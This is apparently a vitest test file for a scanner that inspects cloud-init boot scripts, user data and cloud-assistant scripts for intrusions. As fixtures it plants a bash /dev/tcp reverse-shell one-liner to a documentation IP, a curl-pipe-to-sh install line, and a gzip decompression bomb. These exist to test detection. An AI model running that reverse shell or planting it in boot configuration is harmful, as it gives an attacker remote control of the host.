import { rmSync } from 'node:fs';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { lacks } from '../../../test/need.ts';
import { makeRoot, scanRoot, scanWithout, shown } from '../../../test/throwaway-root.ts';
import { cloudInit } from './check.ts';

const boot = '/var/lib/cloud/scripts/per-boot/a.sh';
const data = '/var/lib/cloud/instances/i-1/user-data.txt';
const shell = 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1';
const told = async (planted: Parameters<typeof makeRoot>[0]) => (await scanRoot([cloudInit], planted)).findings.map(({ kind, level, path }) => `${kind} ${level} ${path}`);
const sent = (text: string | Buffer) => ({ [data]: { text, mode: 0o600 } });

describe('cloud-init', () => {
  it('finds scripts of each boot', async () => {
    const root = makeRoot({ [boot]: { text: `#!/bin/sh\n${shell}\n`, mode: 0o755 } });
    const report = await scanRoot([cloudInit], root);
    expect(report.findings.map(({ kind, path }) => `${kind} ${path}`)).toEqual([`intrusion ${boot}`]);
    expect(['high', 'critical']).toContain(report.findings[0]?.level);
    rmSync(join(root, boot));
    expect(shown(await scanRoot([cloudInit], root))).toEqual([]);
    expect(await told({ [boot]: { text: '#!/bin/sh\necho ready\n', mode: 0o755 } })).toEqual([`notice low ${boot}`]);
    expect(await told({ [boot]: { text: '#!/bin/sh\ntrue\n', mode: 0o777, package: 'image' } })).toEqual([]);
  });

  it('reads user data in every dress', async () => {
    const whole = `#cloud-config\nbootcmd:\n  - [bash, -c, "${shell}"]\n`;
    const mime = `Content-Type: multipart/mixed; boundary="==b"\nMIME-Version: 1.0\n\n--==b\nContent-Type: text/cloud-config\nContent-Transfer-Encoding: base64\n\n${Buffer.from(whole).toString('base64')}\n--==b--\n`;
    for (const text of [whole, gzipSync(whole), mime]) expect((await told(sent(text))).map((line) => line.replace(/critical|high/, 'bad'))).toEqual([`intrusion bad ${data}`]);
    expect(await told(sent('#cloud-config\npackages: [nginx]\nruncmd:\n  - systemctl enable --now nginx\n  - [echo, done]\n'))).toEqual([]);
    expect(await told(sent('#!/bin/sh\necho hello > /etc/motd\n'))).toEqual([]);
    expect(await told(sent('#include\nhttp://192.0.2.1/x\n'))).toEqual([`notice low ${data}`]);
    expect(await told({ [data]: { text: '#cloud-config\nchpasswd:\n  list: x\n', mode: 0o644 } })).toEqual([`weakness medium ${data}`]);
  });

  it('takes an installation at the first boot for what it mostly is', async () => {
    for (const line of await told(sent('#!/bin/sh\ncurl -fsSL https://get.example.com | sh\n'))) expect(line).toMatch(/^notice /);
  });

  it('finds what an assistant of the cloud ran', async () => {
    const path = '/usr/local/share/aliyun-assist/work/script/t-1.sh';
    const found = await told({ [path]: `#!/bin/sh\n${shell}\n` });
    expect(found).toHaveLength(1);
    expect(found[0]).toContain(path);
    expect(await told({ [path]: '#!/bin/sh\necho df\n' })).toEqual([]);
  });

  it('bears hostile data and says what it could not read', async () => {
    const bomb = gzipSync(Buffer.alloc(8 << 20));
    expect((await scanRoot([cloudInit], sent(bomb))).blind.map(({ what }) => what)).toEqual([data]);
    expect((await scanRoot([cloudInit], sent(`#cloud-config\n${'['.repeat(50_000)}`))).blind.map(({ what }) => what)).toEqual([data]);
    expect(await told(sent(`Content-Type: multipart/mixed; boundary=a\n\n${'--a\n\n'.repeat(20_000)}`))).toEqual([]);
  });

  it.skipIf(lacks({ root: true }))('says what it may not read', async () => {
    expect((await scanWithout([cloudInit], makeRoot(sent('#!/bin/sh\n')), data)).blind.map(({ what }) => what)).toContain(data);
  });
});
